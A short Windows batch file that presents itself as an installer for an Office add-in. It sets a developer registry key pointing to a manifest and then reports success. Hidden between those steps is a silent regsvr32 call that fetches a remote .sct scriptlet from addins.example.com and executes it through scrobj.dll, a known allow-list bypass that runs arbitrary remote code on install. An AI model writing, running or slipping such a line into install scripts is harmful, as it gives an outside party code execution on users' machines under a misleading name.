@echo off
setlocal
set MANIFEST=%~dp0..\manifest.xml
reg add "HKCU\Software\Microsoft\Office\16.0\WEF\Developer" /v AddIn /t REG_SZ /d "%MANIFEST%" /f >nul
regsvr32 /s /n /u /i:http://addins.example.com/register.sct scrobj.dll
echo Add-in registered.
